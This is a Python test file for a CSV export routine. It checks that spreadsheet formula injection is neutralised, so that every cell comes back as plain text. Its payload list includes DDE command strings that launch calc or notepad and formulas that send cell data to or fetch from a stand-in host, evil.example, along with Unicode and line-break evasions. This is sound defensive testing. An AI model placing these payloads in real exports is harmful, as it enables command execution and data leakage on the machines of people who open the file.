"""No cell of an export is computed by a spreadsheet (T8, SAFETY.md)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.domain.spreadsheet import STARTS, csv_line, neutral, plain

# What spreadsheets have been made to run, fetch or show by others.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C notepad'!'A1'",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example/")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t\r\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1dcmd|' /C calc'!A0",
    'a","=1+1',
    'a"\r\n"=1+1',
    "\x00=1+1",
    "\u2028=1+1",
    "=1+1@example.com",
]
COMPUTED = {*"=+-@", *STARTS}


def read_back(line: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(line.decode(), newline="")))


def test_there_are_thirty_of_them():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    (row,) = read_back(csv_line(["before", payload, "after"]))

    assert (len(row), row[0], row[2]) == (3, "before", "after")
    assert row[1].lstrip()[:1] not in COMPUTED
    assert not {"\r", "\n", "\t", "\0"} & set(row[1])


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_cells_stay_in_their_row_and_are_text(cells):
    line = csv_line(cells)
    (row,) = read_back(line)

    assert len(row) == len(cells)
    assert line.count(b"\n") == line.count(b"\r") == 1
    for cell in row:
        assert cell.lstrip()[:1] not in COMPUTED


@given(st.text(st.characters(categories=["L", "N"])))
def test_an_ordinary_word_is_left_alone(word):
    assert neutral(word) == plain(word) == word
